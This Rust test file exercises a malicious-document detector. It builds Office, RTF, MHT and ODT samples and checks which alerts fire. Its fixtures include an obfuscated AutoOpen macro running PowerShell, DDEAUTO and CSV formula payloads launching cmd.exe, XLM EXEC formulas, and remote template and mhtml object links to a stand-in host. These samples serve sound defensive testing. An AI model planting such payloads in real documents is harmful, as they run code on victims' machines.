//! Small documents made here: each hostile class is found, its harmless twin is not.

use super::super::tests::{codes, examine, policy};
use crate::inspect::inspector::Examiner;

/// MS-OVBA §2.4.1 without compression: flag octets of zero before every eight octets.
pub fn packed(source: &[u8]) -> Vec<u8> {
    let mut out = vec![1];
    for chunk in source.chunks(3500) {
        let mut body = Vec::new();
        for eight in chunk.chunks(8) {
            body.push(0);
            body.extend_from_slice(eight);
        }
        out.extend_from_slice(&(0xB000_u16 | u16::try_from(body.len() + 2 - 3).unwrap()).to_le_bytes());
        out.extend_from_slice(&body);
    }
    out
}

/// A compound file of streams, all in sectors of 512 octets.
pub fn compound(streams: &[(&str, &[u8])]) -> Vec<u8> {
    let sectors = |length: usize| length.div_ceil(512).max(1);
    let directory = (streams.len() + 1).div_ceil(4);
    let (mut fat, mut body, mut entries) = (vec![0xFFFF_FFFD_u32], Vec::new(), Vec::new());
    let chain = |count: usize, fat: &mut Vec<u32>| {
        let start = u32::try_from(fat.len()).unwrap();
        for i in 1..count {
            fat.push(start + u32::try_from(i).unwrap());
        }
        fat.push(0xFFFF_FFFE);
        start
    };
    let start = chain(directory, &mut fat);
    let entry = |name: &str, kind: u8, child: u32, right: u32, start: u32, size: usize| {
        let mut out: Vec<u8> = name.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let length = u16::try_from(out.len() + 2).unwrap();
        out.resize(64, 0);
        out.extend_from_slice(&length.to_le_bytes());
        out.extend_from_slice(&[kind, 1]);
        for link in [0xFFFF_FFFF, right, child] {
            out.extend_from_slice(&u32::to_le_bytes(link));
        }
        out.resize(116, 0);
        out.extend_from_slice(&start.to_le_bytes());
        out.extend_from_slice(&(size as u64).to_le_bytes());
        out
    };
    entries.extend(entry("Root Entry", 5, 1, 0xFFFF_FFFF, 0xFFFF_FFFE, 0));
    for (i, (name, data)) in streams.iter().enumerate() {
        let at = chain(sectors(data.len()), &mut fat);
        let right = if i + 1 < streams.len() { u32::try_from(i + 2).unwrap() } else { 0xFFFF_FFFF };
        entries.extend(entry(name, 2, 0xFFFF_FFFF, right, at, data.len()));
        let mut padded = data.to_vec();
        padded.resize(sectors(data.len()) * 512, 0);
        body.extend(padded);
    }
    entries.resize(directory * 512, 0);
    let mut out = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec();
    out.resize(24, 0);
    for number in [0x3E_u16, 3, 0xFFFE, 9, 6] {
        out.extend_from_slice(&number.to_le_bytes());
    }
    out.resize(44, 0);
    // One table, directory, no cutoff: even small streams lie in sectors.
    for number in [1, start, 0, 0, 0xFFFF_FFFE, 0, 0xFFFF_FFFE, 0, 0] {
        out.extend_from_slice(&u32::to_le_bytes(number));
    }
    out.resize(512, 0xFF);
    assert!(fat.len() <= 128, "one sector of table");
    let mut table: Vec<u8> = fat.iter().flat_map(|n| n.to_le_bytes()).collect();
    table.resize(512, 0xFF);
    [out, table, entries, body].concat()
}

/// `dir` of a project with one module whose source begins at `offset`.
pub fn directory(module: &str, offset: u32) -> Vec<u8> {
    let mut out = Vec::new();
    let mut record = |id: u16, body: &[u8]| {
        out.extend_from_slice(&id.to_le_bytes());
        out.extend_from_slice(&u32::try_from(body.len()).unwrap().to_le_bytes());
        out.extend_from_slice(body);
    };
    record(0x0019, module.as_bytes());
    record(0x001A, module.as_bytes());
    record(0x0031, &offset.to_le_bytes());
    packed(&out)
}

fn macros(source: &str, compiled: &[u8]) -> Vec<u8> {
    let source = format!("Attribute VB_Name = \"M\"\r\n{source}");
    compound(&[("dir", &directory("M", 0)), ("M", &packed(source.as_bytes())), ("_VBA_PROJECT", compiled)])
}

/// Name, octets, codes that must be there, codes that must not.
type Case = (&'static str, Vec<u8>, &'static [&'static str], &'static [&'static str]);

fn check(cases: Vec<Case>) {
    let policy = policy();
    let loaded = policy.open(None).unwrap();
    let examiner = Examiner::new(&loaded);
    for (name, body, wanted, unwanted) in cases {
        let facts = examine(&examiner, name, "application/octet-stream", &body);
        let found = codes(&facts);
        for code in wanted {
            assert!(found.iter().any(|c| c == code), "{name}: no {code} in {found:?}");
        }
        for code in unwanted {
            assert!(!found.iter().any(|c| c.starts_with(code)), "{name}: {code} in {found:?}");
        }
    }
}

#[test]
fn macros_are_read_and_judged_by_what_they_do() {
    let dropper =
        "Sub AutoOpen()\r\nx = \"po\" & \"wershell\"\r\nCreateObject(\"WScript.Sh\" & \"ell\").Run x\r\nEnd Sub\r\n";
    let helper = "Function Total(r)\r\nTotal = r.Rows.Count ' Shell we count\r\nEnd Function\r\n";
    check(vec![
        ("a.doc", macros(dropper, b""), &["macro.present", "macro.autoexec", "macro.suspicious"], &["macro.stomped"]),
        ("b.doc", macros(helper, b""), &["macro.present"], &["macro.a", "macro.s", "office."]),
        (
            "c.doc",
            macros("Option Explicit\r\n", b"xx AutoOpen xx CreateProcessA xx"),
            &["macro.stomped", "macro.autoexec"],
            &[],
        ),
        ("d.doc", macros("", b"xx ThisDocument xx"), &[], &["macro."]),
    ]);
}

#[test]
fn macro_source_and_its_joined_strings_are_seen_by_rules() {
    let policy = policy();
    let loaded = policy.open(None).unwrap();
    let examiner = Examiner::new(&loaded);
    let source = "Sub A()\r\nx = \"http://bad.exa\" & \"mple/x.exe\"\r\ny = \"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR\" & \"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*\"\r\nEnd Sub";
    let facts = examine(&examiner, "a.doc", "application/msword", &macros(source, b""));
    assert!(codes(&facts).contains(&"malware.eicar".to_owned()), "{:?}", codes(&facts));
    assert!(facts.urls.contains(&"http://bad.example/x.exe".to_owned()), "{:?}", facts.urls);
}

fn relations(kind: &str, target: &str) -> Vec<u8> {
    format!("<?xml version=\"1.0\"?><Relationships><Relationship Id=\"r\" Type=\"http://x/{kind}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>").into_bytes()
}

#[test]
fn what_a_document_fetches_is_told_from_what_it_links_to() {
    check(vec![
        ("a.rels", relations("attachedTemplate", "http://bad.example/t.dotm"), &["office.external-template"], &[]),
        (
            "b.rels",
            relations("oleObject", "mhtml:http://bad.example/x!x-usc:http://bad.example/x"),
            &["office.external-object"],
            &[],
        ),
        ("c.rels", relations("image", "file://bad.example/share/a.png"), &["office.external-object"], &[]),
        ("d.rels", relations("hyperlink", "https://good.example/"), &[], &["office."]),
        ("e.rels", relations("attachedTemplate", "file:///C:/Users/a/Normal.dotm"), &[], &["office."]),
        ("f.rels", relations("image", "https://good.example/a.png"), &[], &["office."]),
    ]);
}

#[test]
fn fields_that_start_programs_are_found_however_they_are_split() {
    let run = |pieces: &[&str]| {
        let runs: String = pieces.iter().map(|p| format!("<w:r><w:instrText>{p}</w:instrText></w:r>")).collect();
        format!("<?xml version=\"1.0\"?><w:document><w:p><w:fldChar w:fldCharType=\"begin\"/>{runs}<w:fldChar w:fldCharType=\"end\"/></w:p></w:document>").into_bytes()
    };
    let word = |text: &[u8]| {
        let mut stream = vec![0_u8; 600];
        stream.extend_from_slice(b"\x13 ");
        stream.extend_from_slice(text);
        stream.extend_from_slice(b"\x14result\x15");
        compound(&[("WordDocument", &stream)])
    };
    check(vec![
        ("a.xml", run(&["DD", "EAU", "TO c:\\\\x \"cmd\""]), &["office.dde"], &[]),
        ("b.xml", run(&["QUOTE 68 68 69 65 85 84 79 32 99 109 100"]), &[], &["office.malformed"]),
        ("c.xml", run(&["HYPERLINK \"http://good.example/\""]), &[], &["office."]),
        ("d.xml", run(&["INCLUDETEXT \"\\\\\\\\bad.example\\\\x\""]), &["office.external-object"], &[]),
        ("e.doc", word(b"DDEAUTO c:\\windows\\system32\\cmd.exe \"/c calc\""), &["office.dde"], &[]),
        ("f.doc", word(b"PAGE \\* MERGEFORMAT"), &[], &["office."]),
        ("g.rtf", b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe /k calc}}}".to_vec(), &["office.dde"], &[]),
        ("h.csv", b"a;b\r\n=cmd|'/c calc'!A0;1\r\n".to_vec(), &["office.dde"], &[]),
        ("i.csv", b"name|note;=SUM(A1:A2)\r\n".to_vec(), &[], &["office."]),
    ]);
}

fn package(name: &str, body: &[u8]) -> Vec<u8> {
    let mut out = vec![2, 0];
    for text in [name, name] {
        out.extend_from_slice(text.as_bytes());
        out.push(0);
    }
    out.extend_from_slice(&[0, 0, 3, 0]);
    out.extend_from_slice(&u32::try_from(name.len() + 1).unwrap().to_le_bytes());
    out.extend_from_slice(name.as_bytes());
    out.push(0);
    out.extend_from_slice(&u32::try_from(body.len()).unwrap().to_le_bytes());
    out.extend_from_slice(body);
    out
}

fn eicar() -> Vec<u8> {
    concat!("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR", "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").as_bytes().to_vec()
}

#[test]
fn embedded_files_are_taken_out_under_their_names() {
    let native = |name: &str, body: &[u8]| {
        let inner = package(name, body);
        let length = u32::try_from(inner.len()).unwrap().to_le_bytes();
        compound(&[("\u{1}Ole10Native", &[&length[..], &inner].concat())])
    };
    let rtf = |junk: &str| {
        let inner = package("a.js", &eicar());
        let mut object = vec![1, 5, 0, 0, 2, 0, 0, 0, 8, 0, 0, 0];
        object.extend_from_slice(b"Package\0\0\0\0\0\0\0\0\0");
        object.extend_from_slice(&u32::try_from(inner.len()).unwrap().to_le_bytes());
        object.extend_from_slice(&inner);
        let digits: String = object.iter().map(|b| format!("{junk}{b:02x}")).collect();
        format!("{{\\rtf1{{\\object\\objemb\\objupdate{{\\*\\objdata {digits}}}}}}}").into_bytes()
    };
    let mut notebook = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3".to_vec();
    notebook.extend_from_slice(b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac");
    notebook.extend_from_slice(&68_u64.to_le_bytes());
    notebook.extend_from_slice(&[0; 12]);
    notebook.extend_from_slice(&eicar());
    check(vec![
        ("a.doc", native("run.vbs", &eicar()), &["office.package-program", "malware.eicar"], &[]),
        ("b.doc", native("notes.txt", b"hello hello hello"), &["office.package"], &["office.package-program"]),
        ("c.rtf", rtf(""), &["office.package-program", "malware.eicar", "office.auto-update"], &[]),
        ("d.rtf", rtf("\r\n{\\*\\x zz}\\foo "), &["malware.eicar"], &[]),
        ("e.one", notebook, &["malware.eicar"], &[]),
        ("f.doc", compound(&[("Equation Native", b"0123456789abcdef")]), &["office.equation"], &[]),
        ("g.doc", compound(&[("EncryptedPackage", b"0123456789abcdef")]), &["office.encrypted"], &[]),
        ("h.rtf", b"{\\rtf1 {\\*\\template http://bad.example/t.dotm}}".to_vec(), &["office.external-template"], &[]),
        ("i.rtf", b"{\\rtf1\\ansi plain {\\b bold} text}".to_vec(), &[], &["office."]),
    ]);
}

#[test]
fn outlook_messages_give_their_attachments() {
    let name: Vec<u8> = "bill.exe".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let file = compound(&[
        ("__properties_version1.0", b"0123456789abcdef"),
        ("__substg1.0_3707001F", &name),
        ("__substg1.0_37010102", &eicar()),
        ("__substg1.0_1000001E", b"see http://bad.example/x now"),
    ]);
    let policy = policy();
    let loaded = policy.open(None).unwrap();
    let facts = examine(&Examiner::new(&loaded), "a.msg", "application/vnd.ms-outlook", &file);
    assert!(codes(&facts).contains(&"malware.eicar".to_owned()), "{:?}", codes(&facts));
    assert!(facts.urls.contains(&"http://bad.example/x".to_owned()), "{:?}", facts.urls);
}

#[test]
fn macro_sheets_are_read_as_text() {
    let record = |kind: u16, body: &[u8]| {
        [&kind.to_le_bytes()[..], &u16::try_from(body.len()).unwrap().to_le_bytes(), body].concat()
    };
    let formula = b"\x17\x02\0cm\x1e\x64\0\x41\x6f\0\x08\x42\x01\x6e\0";
    let mut cell = vec![0; 20];
    cell.extend_from_slice(&u16::try_from(formula.len()).unwrap().to_le_bytes());
    cell.extend_from_slice(formula);
    let book = [
        record(0x0809, &[0, 6, 5, 0, 0, 0, 0, 0]),
        record(0x0085, &[0, 0, 0, 0, 1, 1, 1, 0, b'M']),
        record(0x0018, &[0x20, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1]),
        record(0x0809, &[0, 6, 0x40, 0, 0, 0, 0, 0]),
        record(0x0006, &cell),
    ]
    .concat();
    let policy = policy();
    let loaded = policy.open(None).unwrap();
    let facts =
        examine(&Examiner::new(&loaded), "a.xls", "application/vnd.ms-excel", &compound(&[("Workbook", &book)]));
    let found = codes(&facts);
    for code in ["macro.xlm", "macro.autoexec", "macro.suspicious"] {
        assert!(found.iter().any(|c| c == code), "{code}: {found:?}");
    }
}

#[test]
fn macro_sheets_of_binary_workbooks_are_read_as_text() {
    // BrtFmlaNum: cell, number, flags, length, formula: "cm" & CHAR(100), EXEC.
    let formula = b"\x17\x02\0c\0m\0\x1e\x64\0\x41\x6f\0\x08\x42\x01\x6e\0";
    let mut cell = vec![0; 18];
    cell.extend(u32::try_from(formula.len()).unwrap().to_le_bytes());
    cell.extend_from_slice(formula);
    let mut sheet = vec![0x81, 0x01, 0, 9, u8::try_from(cell.len()).unwrap()];
    sheet.extend(cell);
    let text: Vec<u8> = "http://bad.example/x".encode_utf16().flat_map(u16::to_le_bytes).collect();
    sheet.extend([6, u8::try_from(12 + text.len()).unwrap()]);
    sheet.extend([0; 8]);
    sheet.extend(u32::try_from(text.len() / 2).unwrap().to_le_bytes());
    sheet.extend(text);
    let policy = policy();
    let loaded = policy.open(None).unwrap();
    let zip = stored(&[("[Content_Types].xml", b"<x/>"), ("xl/macrosheets/sheet1.bin", &sheet)]);
    let facts = examine(&Examiner::new(&loaded), "a.xlsb", "application/octet-stream", &zip);
    let found = codes(&facts);
    for code in ["macro.xlm", "macro.suspicious"] {
        assert!(found.iter().any(|c| c == code), "{code}: {found:?}");
    }
    assert!(facts.findings.iter().any(|f| f.detail.contains("EXEC")), "{:?}", facts.findings);
    assert!(facts.urls.contains(&"http://bad.example/x".to_owned()), "{:?}", facts.urls);
}

/// A zip whose members lie in it as they are.
fn stored(members: &[(&str, &[u8])]) -> Vec<u8> {
    let (mut out, mut directory) = (Vec::new(), Vec::new());
    for (name, data) in members {
        let at = u32::try_from(out.len()).unwrap();
        let mut crc = flate2::Crc::new();
        crc.update(data);
        let mut head = vec![20, 0, 0, 0, 0, 0, 0, 0, 0, 0];
        let size = u32::try_from(data.len()).unwrap();
        [crc.sum(), size, size].iter().for_each(|n| head.extend(n.to_le_bytes()));
        head.extend(u16::try_from(name.len()).unwrap().to_le_bytes());
        head.extend([0, 0]);
        out.extend(b"PK\x03\x04");
        out.extend(&head);
        out.extend(name.bytes());
        out.extend_from_slice(data);
        directory.extend(b"PK\x01\x02\x14\0");
        directory.extend(&head);
        directory.extend([0; 10]);
        directory.extend(at.to_le_bytes());
        directory.extend(name.bytes());
    }
    let (at, length) = (u32::try_from(out.len()).unwrap(), u32::try_from(directory.len()).unwrap());
    out.extend(directory);
    out.extend(b"PK\x05\x06\0\0\0\0");
    let count = u16::try_from(members.len()).unwrap().to_le_bytes();
    out.extend([count, count].concat());
    [length, at].iter().for_each(|n| out.extend(n.to_le_bytes()));
    out.extend([0, 0]);
    out
}

#[test]
fn parts_that_fetch_or_start_something_are_told() {
    let mht = b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\n\
        Content-Type: application/x-mso\r\nContent-Transfer-Encoding: base64\r\nContent-Location: editdata.mso\r\n\r\n";
    let project = macros("Sub AutoOpen()\r\nShell \"calc\"\r\nEnd Sub\r\n", b"");
    let mso = {
        use std::io::Write as _;
        let mut packed = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        packed.write_all(&project).unwrap();
        let mut out = b"ActiveMime\0\0".to_vec();
        out.resize(0x32, 0);
        out.extend(packed.finish().unwrap());
        out
    };
    let page = {
        use base64::Engine as _;
        [&mht[..], base64::engine::general_purpose::STANDARD.encode(&mso).as_bytes(), b"\r\n--b--\r\n"].concat()
    };
    check(vec![
        ("a.mso", mso, &["macro.present", "macro.autoexec", "macro.suspicious"], &[]),
        ("b.mht", page.clone(), &["macro.present", "macro.autoexec"], &[]),
        ("c.doc", page, &["macro.present", "macro.autoexec"], &[]),
        (
            "d.xml",
            b"<?xml version='1.0'?><Schema><xs:redefine schemaLocation='http://bad.example/x.xsd'/></Schema>".to_vec(),
            &["office.external-object"],
            &[],
        ),
        (
            "e.xml",
            b"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='\\\\bad.example\\x.xsl'?><w:document/>".to_vec(),
            &["office.external-template"],
            &[],
        ),
        ("f.xml", b"<?xml version='1.0'?><?xml-stylesheet href='own.xsl'?><a/>".to_vec(), &[], &["office."]),
        (
            "g.odt",
            stored(&[
                ("mimetype", b"application/vnd.oasis.opendocument.text"),
                (
                    "content.xml",
                    b"<?xml version='1.0'?><office:document-content><office:scripts><office:event-listeners>\
                    <script:event-listener script:language='ooo:script' script:event-name='dom:load' \
                    xlink:href='vnd.sun.star.script:pythonSamples|TableSample.py$x?language=Python&amp;location=share'/>\
                    </office:event-listeners></office:scripts></office:document-content>",
                ),
            ]),
            &["macro.present", "macro.autoexec"],
            &[],
        ),
    ]);
}

#[test]
fn work_on_hostile_files_is_bounded_and_said_to_be() {
    // Marks of fields inside each other; streams that all are the whole file.
    let marks = vec![0x13_u8; 50_000];
    let shared = {
        let body = vec![b'x'; 30_000];
        let names: Vec<String> = (0..30).map(|n| format!("s{n}")).collect();
        let mut streams: Vec<(&str, &[u8])> = vec![("first", &body)];
        streams.extend(names.iter().map(|name| (name.as_str(), b"0123456789".as_slice())));
        let mut file = compound(&streams);
        // Every entry behind the first says that it is the first: its start and its length.
        let directory = 1024;
        let first: Vec<u8> = file[directory + 128 + 116..directory + 128 + 128].to_vec();
        for entry in 2..32 {
            file[directory + entry * 128 + 116..directory + entry * 128 + 128].copy_from_slice(&first);
        }
        file
    };
    check(vec![
        ("a.doc", compound(&[("WordDocument", &marks)]), &["unpack.limit"], &[]),
        ("b.doc", shared, &["unpack.limit"], &[]),
    ]);
}
